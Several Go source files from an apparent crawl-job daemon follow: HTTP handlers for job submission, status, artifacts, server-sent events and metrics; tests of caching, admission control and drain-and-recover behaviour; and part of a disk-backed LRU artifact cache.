	route("GET /v1/jobs/{id}/trace", "/v1/jobs/{id}/trace", handleTrace)
	route("GET /v1/jobs/{id}/events", "/v1/jobs/{id}/events", handleEvents)
	route("GET /healthz", "/healthz", handleHealth)
	route("GET /metrics", "/metrics", handleMetrics)
	if d.cfg.EnablePprof {
		mux.HandleFunc("GET /debug/pprof/", pprof.Index)
		mux.HandleFunc("GET /debug/pprof/cmdline", pprof.Cmdline)
		mux.HandleFunc("GET /debug/pprof/profile", pprof.Profile)
		mux.HandleFunc("GET /debug/pprof/symbol", pprof.Symbol)
		mux.HandleFunc("GET /debug/pprof/trace", pprof.Trace)
	}
	return mux
}

// statusWriter captures the response code for the middleware's per-code
// counters while passing Flusher through (SSE needs it).
type statusWriter struct {
	http.ResponseWriter
	code int
}

func (w *statusWriter) WriteHeader(code int) {
	w.code = code
	w.ResponseWriter.WriteHeader(code)
}

func (w *statusWriter) Flush() {
	if f, ok := w.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}

// requestSecondsBuckets is the latency histogram layout for HTTP handlers:
// sub-millisecond cache hits up to multi-minute crawls awaited via SSE.
var requestSecondsBuckets = []float64{0.001, 0.005, 0.025, 0.1, 0.5, 2.5, 10, 60, 300}

// instrument wraps a handler in per-route telemetry: request counter,
// in-flight gauge, and — when the binary injected a clock — a latency
// histogram and per-status-code response counters. The daemon never reads
// the wall clock itself (crawl time is virtual; the wpmlint wallclock rule
// enforces this), so without Config.NowNanos latency is simply not observed.
func (d *Daemon) instrument(route string, h http.HandlerFunc) http.HandlerFunc {
	if !d.tel.Enabled() {
		return h
	}
	return func(w http.ResponseWriter, r *http.Request) {
		label := telemetry.L("route", route)
		d.tel.Counter("http_requests_total", label).Inc()
		inflight := d.tel.Gauge("http_inflight_requests", label)
		inflight.Add(1)
		defer inflight.Add(-1)
		now := d.cfg.NowNanos
		if now == nil {
			h(w, r)
			return
		}
		sw := &statusWriter{ResponseWriter: w, code: http.StatusOK}
		start := now()
		h(sw, r)
		d.tel.Histogram("http_request_seconds", requestSecondsBuckets, label).
			Observe(float64(now()-start) / 1e9)
		d.tel.Counter("http_responses_total", label, telemetry.L("code", strconv.Itoa(sw.code))).Inc()
	}
}

// httpError is the uniform JSON error envelope.
func httpError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	// a failed response write means the client hung up; nobody is listening
	_ = json.NewEncoder(w).Encode(map[string]string{"error": msg})
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", " ")
	// a failed response write means the client hung up; nobody is listening
	_ = enc.Encode(v)
}

func handleSubmit(d *Daemon, w http.ResponseWriter, r *http.Request) {
	var spec JobSpec
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, 8<<20))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		httpError(w, http.StatusBadRequest, fmt.Sprintf("decode job spec: %v", err))
		return
	}
	st, err := d.Submit(spec, r.Header.Get("X-Tenant"))
	switch {
	case err == ErrQueueFull || err == ErrTenantBudget:
		w.Header().Set("Retry-After", strconv.Itoa(d.RetryAfterSeconds()))
		httpError(w, http.StatusTooManyRequests, err.Error())
	case err != nil && d.Draining():
		httpError(w, http.StatusServiceUnavailable, err.Error())
	case err != nil:
		httpError(w, http.StatusBadRequest, err.Error())
	case st.Cached:
		writeJSON(w, http.StatusOK, st)
	default:
		writeJSON(w, http.StatusAccepted, st)
	}
}

func handleStatus(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	st, ok := d.JobStatusFor(id)
	if !ok {
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func handleArtifact(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	data, meta, ok := d.Artifact(id)
	if !ok {
		if st, known := d.JobStatusFor(id); known {
			httpError(w, http.StatusConflict, fmt.Sprintf("job %s is %s, artifact not sealed yet", id, st.State))
			return
		}
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	w.Header().Set("Content-Type", meta.ContentType)
	w.Header().Set("X-Artifact-Digest", meta.Digest)
	w.Header().Set("Content-Length", strconv.FormatInt(meta.Bytes, 10))
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(data) // client gone mid-write: nothing to report to
}

func handleHealth(d *Daemon, w http.ResponseWriter, _ *http.Request) {
	entries, bytes := d.CacheStats()
	body := map[string]any{
		"draining":     d.Draining(),
		"queueDepth":   d.QueueDepth(),
		"cacheEntries": entries,
		"cacheBytes":   bytes,
	}
	code := http.StatusOK
	if d.Draining() {
		code = http.StatusServiceUnavailable
	}
	writeJSON(w, code, body)
}

// handleTrace serves the job's sealed trace artifact (JSON lines of span
// events; wpmtrace consumes the format directly).
func handleTrace(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	data, meta, ok := d.Artifact(id + traceSuffix)
	if !ok {
		if st, known := d.JobStatusFor(id); known {
			httpError(w, http.StatusConflict, fmt.Sprintf("job %s is %s, trace not sealed yet", id, st.State))
			return
		}
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	w.Header().Set("Content-Type", meta.ContentType)
	w.Header().Set("X-Artifact-Digest", meta.Digest)
	w.Header().Set("Content-Length", strconv.FormatInt(meta.Bytes, 10))
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(data) // client gone mid-write: nothing to report to
}

// writeSSE emits one Server-Sent Event frame.
func writeSSE(w http.ResponseWriter, f http.Flusher, ev JobEvent) error {
	data, err := json.Marshal(ev)
	if err != nil {
		return err
	}
	if ev.Seq > 0 {
		fmt.Fprintf(w, "id: %d\n", ev.Seq)
	}
	fmt.Fprintf(w, "event: %s\ndata: %s\n\n", ev.Type, data)
	f.Flush()
	return nil
}

// handleEvents streams a job's events as Server-Sent Events. The stream
// opens with a synthetic snapshot of the current job state (seq 0, so a
// reconnecting consumer's Last-Event-ID is unaffected), then replays the
// hub's ring past the Last-Event-ID watermark, then goes live. The stream
// ends when the job reaches a terminal state or the client disconnects.
// For jobs only known from the cache (no live executor) a single state
// event is emitted and the stream closes immediately.
func handleEvents(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	f, ok := w.(http.Flusher)
	if !ok {
		httpError(w, http.StatusInternalServerError, "streaming unsupported by this connection")
		return
	}
	j, live := d.Job(id)
	st, known := d.JobStatusFor(id)
	if !known {
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	var after int64
	if lastID := r.Header.Get("Last-Event-ID"); lastID != "" {
		if n, err := strconv.ParseInt(lastID, 10, 64); err == nil {
			after = n
		}
	}
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	w.Header().Set("X-Accel-Buffering", "no")
	w.WriteHeader(http.StatusOK)

	// leading snapshot so consumers always learn the current state even when
	// they attach long after the transition events scrolled out of the ring
	if err := writeSSE(w, f, stateEvent(st)); err != nil {
		return
	}
	if !live {
		return
	}
	replay, ch, cancel := j.events.subscribe(after)
	defer cancel()
	for _, ev := range replay {
		if err := writeSSE(w, f, ev); err != nil {
			return
		}
	}
	for {
		select {
		case ev, ok := <-ch:
			if !ok {
				return
			}
			if err := writeSSE(w, f, ev); err != nil {
				return
			}
		case <-r.Context().Done():
			return
		}
	}
}

// runtimeGauges folds process-level runtime observations into the snapshot
// at scrape time: they describe the scraping instant, not accumulated
// telemetry, so they live on the snapshot copy rather than in the registry.
func runtimeGauges(snap *telemetry.Snapshot) {
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	if snap.Gauges == nil {
		snap.Gauges = map[string]int64{}
	}
	snap.Gauges["runtime_goroutines"] = int64(runtime.NumGoroutine())
	snap.Gauges["runtime_heap_alloc_bytes"] = int64(ms.HeapAlloc)
	if snap.Counters == nil {
		snap.Counters = map[string]int64{}
	}
	snap.Counters["runtime_gc_cycles_total"] = int64(ms.NumGC)
	// The shared script cache is process-wide state like the runtime stats:
	// scrape-time observability only, never part of crawl telemetry (bundle
	// replay identity must not depend on what other jobs warmed).
	sc := scriptcache.Shared.Snapshot()
	snap.Gauges["script_cache_entries"] = int64(sc.Entries)
	snap.Gauges["script_cache_programs"] = int64(sc.Programs)
	snap.Counters["script_cache_hits_total"] = sc.Hits
	snap.Counters["script_cache_misses_total"] = sc.Misses
	snap.Counters["script_cache_collisions_total"] = sc.Collisions
	snap.Counters["script_cache_evictions_total"] = sc.Evictions
}

// handleMetrics renders the telemetry snapshot plus runtime gauges. The
// default is the Prometheus text exposition format; ?format=json or an
// Accept: application/json header returns the canonical snapshot document.
func handleMetrics(d *Daemon, w http.ResponseWriter, r *http.Request) {
	tel := d.Telemetry()
	if !tel.Enabled() {
		httpError(w, http.StatusNotFound, "telemetry disabled")
		return
	}
	snap := tel.Snapshot()
	runtimeGauges(snap)
	wantJSON := r.URL.Query().Get("format") == "json" ||
		strings.Contains(r.Header.Get("Accept"), "application/json")
	if wantJSON {
		data, err := snap.CanonicalJSON()
		if err != nil {
			httpError(w, http.StatusInternalServerError, err.Error())
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(append(data, '\n')) // client gone mid-write: nothing to report to
		return
	}
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	renderProm(w, snap)
}
