package daemon

import (
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
)

// Handler builds the daemon's HTTP API:
//
//	POST /v1/jobs                submit a job spec (JSON body); 200 with a
//	                             cached status on a hit, 202 on admission,
//	                             400 on a bad spec, 429 + Retry-After when
//	                             the queue or the tenant budget is full,
//	                             503 while draining
//	GET  /v1/jobs/{id}           job status by content address
//	GET  /v1/jobs/{id}/artifact  sealed artifact bytes (X-Artifact-Digest
//	                             header carries the integrity digest)
//	GET  /healthz                liveness; 503 while draining
//	GET  /metrics                telemetry snapshot, text exposition by
//	                             default, canonical JSON with ?format=json
//
// The tenant identity for budget accounting comes from the X-Tenant header
// (empty = the anonymous tenant). Handler returns a mux, not a server: the
// caller owns listener lifecycle and MUST set Read/Write/Idle timeouts on
// its http.Server (the wpmlint servertimeouts rule enforces this for
// in-repo callers).
func Handler(d *Daemon) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		handleSubmit(d, w, r)
	})
	mux.HandleFunc("GET /v1/jobs/{id}", func(w http.ResponseWriter, r *http.Request) {
		handleStatus(d, w, r)
	})
	mux.HandleFunc("GET /v1/jobs/{id}/artifact", func(w http.ResponseWriter, r *http.Request) {
		handleArtifact(d, w, r)
	})
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, r *http.Request) {
		handleHealth(d, w, r)
	})
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, r *http.Request) {
		handleMetrics(d, w, r)
	})
	return mux
}

// httpError is the uniform JSON error envelope.
func httpError(w http.ResponseWriter, code int, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	_ = json.NewEncoder(w).Encode(map[string]string{"error": msg})
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", " ")
	_ = enc.Encode(v)
}

func handleSubmit(d *Daemon, w http.ResponseWriter, r *http.Request) {
	var spec JobSpec
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, 8<<20))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		httpError(w, http.StatusBadRequest, fmt.Sprintf("decode job spec: %v", err))
		return
	}
	st, err := d.Submit(spec, r.Header.Get("X-Tenant"))
	switch {
	case err == ErrQueueFull || err == ErrTenantBudget:
		w.Header().Set("Retry-After", strconv.Itoa(d.RetryAfterSeconds()))
		httpError(w, http.StatusTooManyRequests, err.Error())
	case err != nil && d.Draining():
		httpError(w, http.StatusServiceUnavailable, err.Error())
	case err != nil:
		httpError(w, http.StatusBadRequest, err.Error())
	case st.Cached:
		writeJSON(w, http.StatusOK, st)
	default:
		writeJSON(w, http.StatusAccepted, st)
	}
}

func handleStatus(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	st, ok := d.JobStatusFor(id)
	if !ok {
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func handleArtifact(d *Daemon, w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	data, meta, ok := d.Artifact(id)
	if !ok {
		if st, known := d.JobStatusFor(id); known {
			httpError(w, http.StatusConflict, fmt.Sprintf("job %s is %s, artifact not sealed yet", id, st.State))
			return
		}
		httpError(w, http.StatusNotFound, fmt.Sprintf("unknown job %s", id))
		return
	}
	w.Header().Set("Content-Type", meta.ContentType)
	w.Header().Set("X-Artifact-Digest", meta.Digest)
	w.Header().Set("Content-Length", strconv.FormatInt(meta.Bytes, 10))
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(data)
}

func handleHealth(d *Daemon, w http.ResponseWriter, _ *http.Request) {
	entries, bytes := d.CacheStats()
	body := map[string]any{
		"draining":     d.Draining(),
		"queueDepth":   d.QueueDepth(),
		"cacheEntries": entries,
		"cacheBytes":   bytes,
	}
	code := http.StatusOK
	if d.Draining() {
		code = http.StatusServiceUnavailable
	}
	writeJSON(w, code, body)
}

// handleMetrics renders the telemetry snapshot. The default text exposition
// is one "name value" line per series, sorted — trivially diffable and
// greppable; ?format=json returns the canonical snapshot document.
func handleMetrics(d *Daemon, w http.ResponseWriter, r *http.Request) {
	tel := d.Telemetry()
	if !tel.Enabled() {
		httpError(w, http.StatusNotFound, "telemetry disabled")
		return
	}
	snap := tel.Snapshot()
	if r.URL.Query().Get("format") == "json" {
		data, err := snap.CanonicalJSON()
		if err != nil {
			httpError(w, http.StatusInternalServerError, err.Error())
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(append(data, '\n'))
		return
	}
	var b strings.Builder
	lines := make([]string, 0, len(snap.Counters)+len(snap.Gauges))
	for name, v := range snap.Counters {
		lines = append(lines, fmt.Sprintf("%s %d", name, v))
	}
	for name, v := range snap.Gauges {
		lines = append(lines, fmt.Sprintf("%s %d", name, v))
	}
	sort.Strings(lines)
	for _, l := range lines {
		b.WriteString(l)
		b.WriteByte('\n')
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	_, _ = fmt.Fprint(w, b.String())
}
