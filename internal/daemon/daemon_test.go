package daemon

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
	"time"

	"gullible/internal/telemetry"
)

// smallCrawl is the test workhorse: tiny, deterministic, fast.
var smallCrawl = JobSpec{Kind: KindCrawl, NumSites: 3, MaxSubpages: 1}

// openTest opens a daemon over dir with test-friendly sizing.
func openTest(t *testing.T, dir string, tel *telemetry.Telemetry) *Daemon {
	t.Helper()
	d, err := Open(Config{Dir: dir, Executors: 1, CrawlWorkers: 2, Telemetry: tel})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// waitDone blocks until the daemon's job for addr reaches a terminal state.
func waitDone(t *testing.T, d *Daemon, addr string) JobStatus {
	t.Helper()
	j, ok := d.Job(addr)
	if !ok {
		t.Fatalf("job %s unknown to the daemon", addr)
	}
	select {
	case <-j.Done():
	case <-time.After(120 * time.Second):
		t.Fatalf("job %s did not finish: %+v", addr, j.Status())
	}
	return j.Status()
}

func TestSubmitExecutesAndCaches(t *testing.T) {
	tel := telemetry.New()
	d := openTest(t, t.TempDir(), tel)
	defer d.Drain()

	st, err := d.Submit(smallCrawl, "alice")
	if err != nil {
		t.Fatal(err)
	}
	if st.State != JobQueued || st.Cached {
		t.Fatalf("first submit: %+v", st)
	}
	done := waitDone(t, d, st.ID)
	if done.State != JobDone || done.Digest == "" {
		t.Fatalf("job finished as %+v", done)
	}
	data, meta, ok := d.Artifact(st.ID)
	if !ok || meta.Digest != done.Digest || int64(len(data)) != meta.Bytes {
		t.Fatalf("artifact: ok=%v meta=%+v len=%d", ok, meta, len(data))
	}

	// the identical request — spelled with explicit defaults — hits the cache
	again, err := d.Submit(JobSpec{
		Kind: KindCrawl, NumSites: 3, MaxSubpages: 1,
		Seed: DefaultSeed, Faults: DefaultFaults,
	}, "bob")
	if err != nil {
		t.Fatal(err)
	}
	if !again.Cached || again.State != JobDone || again.Digest != done.Digest {
		t.Fatalf("second submit missed the cache: %+v", again)
	}
	snap := tel.Snapshot()
	if snap.Counters["daemon_cache_hits_total"] != 1 {
		t.Fatalf("hit counter = %d, want 1", snap.Counters["daemon_cache_hits_total"])
	}
	if snap.Counters["daemon_cache_misses_total"] != 1 {
		t.Fatalf("miss counter = %d, want 1", snap.Counters["daemon_cache_misses_total"])
	}

	// the queue spec and job WAL are gone once the artifact sealed
	if _, err := os.Stat(filepath.Join(d.cfg.Dir, "queue", st.ID+".json")); !os.IsNotExist(err) {
		t.Fatalf("queue spec survived completion: %v", err)
	}
	if _, err := os.Stat(filepath.Join(d.cfg.Dir, "jobs", st.ID)); !os.IsNotExist(err) {
		t.Fatalf("job WAL dir survived completion: %v", err)
	}
}

func TestWarmHitAcrossRestartAndColdDeterminism(t *testing.T) {
	dirA := t.TempDir()
	d1 := openTest(t, dirA, nil)
	st, err := d1.Submit(smallCrawl, "")
	if err != nil {
		t.Fatal(err)
	}
	first := waitDone(t, d1, st.ID)
	art1, _, _ := d1.Artifact(st.ID)
	d1.Drain()

	// a restarted daemon over the same dir serves the sealed artifact
	d2 := openTest(t, dirA, nil)
	defer d2.Drain()
	warm, err := d2.Submit(smallCrawl, "")
	if err != nil {
		t.Fatal(err)
	}
	if !warm.Cached || warm.Digest != first.Digest {
		t.Fatalf("warm submit after restart: %+v, want cached digest %s", warm, first.Digest)
	}

	// a cold daemon in a fresh dir reproduces the artifact byte-identically
	d3 := openTest(t, t.TempDir(), nil)
	defer d3.Drain()
	st3, err := d3.Submit(smallCrawl, "")
	if err != nil {
		t.Fatal(err)
	}
	cold := waitDone(t, d3, st3.ID)
	art3, _, _ := d3.Artifact(st3.ID)
	if cold.Digest != first.Digest {
		t.Fatalf("cold digest %s != first %s", cold.Digest, first.Digest)
	}
	if !bytes.Equal(art1, art3) {
		t.Fatal("cold artifact bytes differ from the first run's")
	}
}

func TestReplayDiffAgreementJobs(t *testing.T) {
	d := openTest(t, t.TempDir(), nil)
	defer d.Drain()

	st, err := d.Submit(smallCrawl, "")
	if err != nil {
		t.Fatal(err)
	}
	crawlDone := waitDone(t, d, st.ID)

	// a replay whose source is not cached is rejected up front
	if _, err := d.Submit(JobSpec{Kind: KindReplay, Source: "deadbeef"}, ""); err == nil {
		t.Fatal("replay with an uncached source was admitted")
	}

	rep, err := d.Submit(JobSpec{Kind: KindReplay, Source: st.ID, Variant: "none"}, "")
	if err != nil {
		t.Fatal(err)
	}
	repDone := waitDone(t, d, rep.ID)
	if repDone.State != JobDone || repDone.Digest == "" {
		t.Fatalf("replay job: %+v", repDone)
	}
	if repDone.Digest == crawlDone.Digest {
		t.Fatal("replay bundle digest equals the source digest (recorder not engaged?)")
	}

	diff, err := d.Submit(JobSpec{Kind: KindDiff, NumSites: 3}, "")
	if err != nil {
		t.Fatal(err)
	}
	if diffDone := waitDone(t, d, diff.ID); diffDone.State != JobDone {
		t.Fatalf("diff job: %+v", diffDone)
	}
	data, meta, _ := d.Artifact(diff.ID)
	if meta.ContentType != "application/json" || !bytes.Contains(data, []byte("replayDigest")) {
		t.Fatalf("diff artifact meta=%+v body=%q…", meta, data[:min(len(data), 80)])
	}

	agr, err := d.Submit(JobSpec{Kind: KindAgreement, NumSites: 3}, "")
	if err != nil {
		t.Fatal(err)
	}
	if agrDone := waitDone(t, d, agr.ID); agrDone.State != JobDone {
		t.Fatalf("agreement job: %+v", agrDone)
	}
}

// stalledDaemon builds a daemon with no executor pool: admitted jobs stay
// queued forever, which makes admission-control outcomes deterministic.
func stalledDaemon(t testing.TB, cfg Config) *Daemon {
	t.Helper()
	cfg = cfg.withDefaults()
	cache, err := OpenCache(filepath.Join(cfg.Dir, "cache"), cfg.CacheBytes, cfg.Telemetry)
	if err != nil {
		t.Fatal(err)
	}
	for _, sub := range []string{"queue", "jobs"} {
		if err := os.MkdirAll(filepath.Join(cfg.Dir, sub), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return &Daemon{
		cfg: cfg, tel: cfg.Telemetry, cache: cache,
		queue: NewQueue(cfg.QueueDepth, cfg.TenantBudget),
		stop:  make(chan struct{}), jobs: map[string]*Job{},
	}
}

func TestSubmitAdmissionControl(t *testing.T) {
	d := stalledDaemon(t, Config{Dir: t.TempDir(), QueueDepth: 2, TenantBudget: 5})

	if _, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 3}, "alice"); err != nil {
		t.Fatal(err)
	}
	// same spec again: coalesced onto the queued job, not re-admitted
	st, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 3}, "alice")
	if err != nil {
		t.Fatal(err)
	}
	if st.State != JobQueued || d.QueueDepth() != 1 {
		t.Fatalf("coalesce: state=%s depth=%d", st.State, d.QueueDepth())
	}
	// alice's budget (5) is spent (3): a 3-site job busts it
	if _, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 3, Seed: 7}, "alice"); err != ErrTenantBudget {
		t.Fatalf("over-budget submit: %v, want ErrTenantBudget", err)
	}
	// bob has his own budget and the queue has a slot
	if _, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 3, Seed: 7}, "bob"); err != nil {
		t.Fatal(err)
	}
	// the queue (depth 2) is now full for everyone
	if _, err := d.Submit(JobSpec{Kind: KindCrawl, NumSites: 3, Seed: 8}, "carol"); err != ErrQueueFull {
		t.Fatalf("full-queue submit: %v, want ErrQueueFull", err)
	}
}

func TestDrainPersistsQueuedJobsForNextStart(t *testing.T) {
	dir := t.TempDir()
	d := stalledDaemon(t, Config{Dir: dir})
	st, err := d.Submit(smallCrawl, "alice")
	if err != nil {
		t.Fatal(err)
	}
	d.Drain() // no executors: the queued job is left persisted

	d2 := openTest(t, dir, nil)
	defer d2.Drain()
	done := waitDone(t, d2, st.ID)
	if done.State != JobDone {
		t.Fatalf("recovered job finished as %+v", done)
	}
}

// TestDrainMidCrawlAndRecover is the acceptance path: kill -TERM mid-job →
// the in-flight crawl checkpoints and seals its WAL, the restarted daemon
// recovers it from the log and completes digest-identical to an
// uninterrupted run.
func TestDrainMidCrawlAndRecover(t *testing.T) {
	spec := JobSpec{Kind: KindCrawl, NumSites: 40, MaxSubpages: 1}

	// reference: the same job, uninterrupted, in a separate daemon
	ref := openTest(t, t.TempDir(), nil)
	refSt, err := ref.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	refDone := waitDone(t, ref, refSt.ID)
	refArt, _, _ := ref.Artifact(refSt.ID)
	ref.Drain()

	dir := t.TempDir()
	tel := telemetry.New()
	d := openTest(t, dir, tel)
	st, err := d.Submit(spec, "")
	if err != nil {
		t.Fatal(err)
	}
	// wait until the crawl has made real progress, then drain mid-job
	deadline := time.Now().Add(120 * time.Second)
	for tel.Snapshot().Gauges["crawl_progress_done"] < 2 {
		if time.Now().After(deadline) {
			t.Fatal("crawl never started")
		}
		time.Sleep(5 * time.Millisecond)
	}
	interrupted := d.Drain()

	j, _ := d.Job(st.ID)
	switch j.Status().State {
	case JobInterrupted:
		if interrupted != 1 {
			t.Fatalf("Drain reported %d interrupted jobs, want 1", interrupted)
		}
		// the spec and the sealed WAL survive for the next start
		if _, err := os.Stat(filepath.Join(dir, "queue", st.ID+".json")); err != nil {
			t.Fatalf("queue spec missing after drain: %v", err)
		}
		if fss, err := os.ReadDir(filepath.Join(dir, "jobs", st.ID)); err != nil || len(fss) == 0 {
			t.Fatalf("job WAL shards missing after drain: %v", err)
		}
	case JobDone:
		// the crawl beat the drain to the finish line; determinism still
		// holds below, but the recovery path was not exercised
		t.Log("crawl completed before the drain landed; recovery path not hit")
	default:
		t.Fatalf("after drain, job is %+v", j.Status())
	}

	// restart over the same dir: the job is recovered and finished
	d2 := openTest(t, dir, nil)
	defer d2.Drain()
	done := waitDone(t, d2, st.ID)
	if done.State != JobDone {
		t.Fatalf("recovered job finished as %+v", done)
	}
	if done.Digest != refDone.Digest {
		t.Fatalf("recovered digest %s != uninterrupted %s", done.Digest, refDone.Digest)
	}
	art, _, _ := d2.Artifact(st.ID)
	if !bytes.Equal(art, refArt) {
		t.Fatal("recovered artifact bytes differ from the uninterrupted run")
	}
}
