package daemon

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"

	"gullible/internal/telemetry"
)

// ArtifactMeta is the sidecar record stored next to every cached artifact:
// what the bytes are, how they verify, and the recency stamp the LRU uses to
// survive restarts.
type ArtifactMeta struct {
	// Kind is the job kind that produced the artifact.
	Kind string `json:"kind"`
	// Digest is the artifact's own integrity digest: the bundle digest for
	// crawl/replay jobs, the SHA-256 of the report bytes otherwise.
	Digest string `json:"digest"`
	// ContentType is the HTTP content type the artifact is served with.
	ContentType string `json:"contentType"`
	// Bytes is the artifact size on disk.
	Bytes int64 `json:"bytes"`
	// Seq is the logical access stamp (monotonic per cache instance,
	// persisted so recency ordering survives restarts). Logical, not
	// wall-clock: the daemon keeps no wall time in its state.
	Seq uint64 `json:"seq"`
}

// Cache is a disk-backed, byte-budgeted LRU of sealed job artifacts keyed by
// content address. Entries are immutable once written — the address IS the
// content — so a hit serves the exact bytes a cold run produced. Eviction is
// least-recently-used by logical access sequence; the index lives in memory
// and is rebuilt from the sidecar files on open.
type Cache struct {
	mu      sync.Mutex
	dir     string
	budget  int64
	seq     uint64
	bytes   int64
	entries map[string]*ArtifactMeta
	tel     *telemetry.Telemetry
}

// artifact file suffixes: <addr>.art holds the bytes, <addr>.json the meta.
const (
	artSuffix  = ".art"
	metaSuffix = ".json"
)

// OpenCache opens (creating if needed) the cache directory and rebuilds the
// LRU index from the sidecar files. budget <= 0 means unbudgeted. Damaged
// pairs (missing meta, missing artifact, size mismatch) are removed rather
// than served.
func OpenCache(dir string, budget int64, tel *telemetry.Telemetry) (*Cache, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("daemon: open cache: %w", err)
	}
	c := &Cache{dir: dir, budget: budget, entries: map[string]*ArtifactMeta{}, tel: tel}
	ents, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("daemon: open cache: %w", err)
	}
	for _, e := range ents {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, metaSuffix) {
			continue
		}
		addr := strings.TrimSuffix(name, metaSuffix)
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			continue
		}
		var m ArtifactMeta
		if json.Unmarshal(data, &m) != nil {
			c.removeFiles(addr)
			continue
		}
		fi, err := os.Stat(c.artPath(addr))
		if err != nil || fi.Size() != m.Bytes {
			c.removeFiles(addr)
			continue
		}
		c.entries[addr] = &m
		c.bytes += m.Bytes
		if m.Seq > c.seq {
			c.seq = m.Seq
		}
	}
	c.gauges()
	return c, nil
}

func (c *Cache) artPath(addr string) string  { return filepath.Join(c.dir, addr+artSuffix) }
func (c *Cache) metaPath(addr string) string { return filepath.Join(c.dir, addr+metaSuffix) }

func (c *Cache) removeFiles(addr string) {
	// eviction is best-effort: a failed remove leaks disk bytes, but the
	// entry is already gone from the index so it can never be served stale
	_ = os.Remove(c.artPath(addr))
	_ = os.Remove(c.metaPath(addr)) // best-effort, as above
}

// gauges publishes the cache's size; called with mu held (or before the
// cache is shared).
func (c *Cache) gauges() {
	c.tel.Gauge("daemon_cache_bytes").Set(c.bytes)
	c.tel.Gauge("daemon_cache_entries").Set(int64(len(c.entries)))
}

// Get returns the cached artifact bytes and meta for addr, bumping its
// recency. The bool reports whether the entry exists; hit/miss accounting is
// the daemon's job (a Get during artifact download must not double-count the
// submit-path hit).
func (c *Cache) Get(addr string) ([]byte, ArtifactMeta, bool) {
	c.mu.Lock()
	m, ok := c.entries[addr]
	if !ok {
		c.mu.Unlock()
		return nil, ArtifactMeta{}, false
	}
	c.seq++
	m.Seq = c.seq
	meta := *m
	path := c.artPath(addr)
	c.mu.Unlock()

	data, err := os.ReadFile(path)
	if err != nil || int64(len(data)) != meta.Bytes {
		// the disk lost the artifact under us: drop the entry so the next
		// submit re-runs the job instead of serving a truncated archive
		c.mu.Lock()
		if cur, still := c.entries[addr]; still {
			c.bytes -= cur.Bytes
			delete(c.entries, addr)
			c.removeFiles(addr)
			c.gauges()
		}
		c.mu.Unlock()
		return nil, ArtifactMeta{}, false
	}
	if enc, err := json.Marshal(meta); err == nil {
		// persist the recency bump best-effort; a lost bump only ages the entry
		_ = os.WriteFile(c.metaPath(addr), append(enc, '\n'), 0o644)
	}
	return data, meta, true
}

// Contains reports entry existence without bumping recency or touching disk.
func (c *Cache) Contains(addr string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, ok := c.entries[addr]
	return ok
}

// Touch returns an entry's meta and bumps its recency without reading the
// artifact bytes — the submit-path cache hit, where the caller only needs
// the digest.
func (c *Cache) Touch(addr string) (ArtifactMeta, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	m, ok := c.entries[addr]
	if !ok {
		return ArtifactMeta{}, false
	}
	c.seq++
